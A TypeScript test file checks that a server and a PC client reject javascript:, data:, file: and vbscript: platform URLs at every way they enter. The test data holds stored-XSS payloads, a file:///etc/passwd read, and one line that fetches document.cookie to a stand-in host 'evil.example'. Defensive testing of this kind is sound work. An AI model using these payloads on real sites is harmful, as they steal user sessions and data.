/**
 * Issue #18, item 7: a staff-saved platform URL could be `javascript:` (or data:, file:) and was
 * published to every county. The server now applies the PC's http(s) rule to every way a platform
 * URL enters (staff directory, admin publishing, a county's own platform pushed), and the PC drops a
 * non-http(s) URL arriving by pull even if a server let one through (defence in depth).
 */
import { randomUUID } from 'node:crypto';
import { expect, it } from 'vitest';
import { publishItems } from '../../src-server/admin';
import { appendFeed } from '../../src-server/repositories/feed-repository';
import { OpApplier } from '../../src-server/sync/apply-ops';
import { WEB_URL_MESSAGE } from '../../src-shared/domain/web-url';
import { platformCreateInput } from '../../src-shared/schemas/reference';
import { describeEachServer } from '../support/fixtures';
import { asStaff } from '../support/staff';
import { sync } from '../support/sync-harness';

const HOSTILE = ['javascript:alert(document.cookie)', ' JavaScript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd', 'vbscript:msgbox(1)', 'https://'];

it('the PC keeps refusing a non-http(s) URL for its own platforms (the rule the server now shares)', () => {
  for (const url of HOSTILE) expect(platformCreateInput.safeParse({ name: '测试平台', url, level: 'province' }).success, url).toBe(false);
  expect(platformCreateInput.safeParse({ name: '测试平台', url: 'https://px.example.org/a', level: 'province' }).success).toBe(true);
});

describeEachServer('platform URLs (issue #18 item 7)', (test) => {
  let province: string;
  test.beforeAll(async ({ staffLogin }) => {
    province = await staffLogin('prov', 'province');
  });

  test('refuses a staff-saved non-http(s) URL with a reason, saves nothing, and accepts http(s)', async ({ store, server }) => {
    for (const url of HOSTILE) {
      const saved = await asStaff(server.app, province, { method: 'POST', url: '/api/v1/staff/platforms', payload: { name: '恶意平台', url, level: 'province' } });
      expect(saved.status, url).toBe(400);
      expect(saved.json).toMatchObject({ ok: false, error: { code: 'VALIDATION', details: { fields: [{ field: 'url', message: WEB_URL_MESSAGE }] } } });
    }
    expect(Number((await store.db('platforms').where({ name: '恶意平台' }).count({ n: '*' }))[0]!.n)).toBe(0);
    const good = await asStaff(server.app, province, { method: 'POST', url: '/api/v1/staff/platforms', payload: { name: '正常平台', url: 'https://skills.example.org', level: 'province' } });
    expect(good.status).toBe(200);
  });

  test('refuses a non-http(s) URL published from the command line, before anything is written', async ({ store }) => {
    await expect(publishItems(store.db, 'platforms', null, [{ id: randomUUID(), payload: { name: '命令行平台', url: 'javascript:alert(1)', level: 'province', cityCode: null } }])).rejects.toThrow();
    expect(Number((await store.db('platforms').where({ name: '命令行平台' }).count({ n: '*' }))[0]!.n)).toBe(0);
  });

  test("refuses a county's own platform pushed with a non-http(s) URL", async ({ store }) => {
    const id = randomUUID();
    const outcome = await store.db.transaction(async (trx) => {
      const applier = new OpApplier(trx, '230102', 'security-test-device', new Date().toISOString());
      const op = { opId: randomUUID(), seq: 1, entity: 'platform', entityId: id, op: 'put' as const, hlc: '001700000000001:00000:test', operatorId: null, createdAt: new Date().toISOString(), payload: { id, name: '县自建平台', url: 'javascript:alert(1)', level: 'city' } };
      await applier.prefetch([op]);
      const result = await applier.apply(op);
      await applier.finish();
      return result;
    });
    expect(outcome).toMatchObject({ status: 'rejected', code: 'VALIDATION' });
  });

  test('drops a non-http(s) URL arriving by pull on the PC, keeping the platform itself', async ({ store, pc }) => {
    // A server that let one through (an older version, a hand-edited feed): written to the feed directly.
    const bad = randomUUID();
    const fine = randomUUID();
    await store.db.transaction((trx) =>
      appendFeed(trx, [
        { dataset: 'platforms', countyCode: null, itemId: bad, payload: { name: '被篡改的平台', url: 'javascript:fetch("//evil.example/"+document.cookie)', level: 'province', cityCode: null } },
        { dataset: 'platforms', countyCode: null, itemId: fine, payload: { name: '正常的平台', url: 'https://fine.example.org/', level: 'province', cityCode: null } },
      ]),
    );
    expect((await sync(pc)).outcome).toBe('done');
    const platforms = await pc.context.services.platforms.list();
    expect(platforms.find((p) => p.id === bad)).toMatchObject({ name: '被篡改的平台', url: null });
    expect(platforms.find((p) => p.id === fine)).toMatchObject({ url: 'https://fine.example.org/' });
  });
});
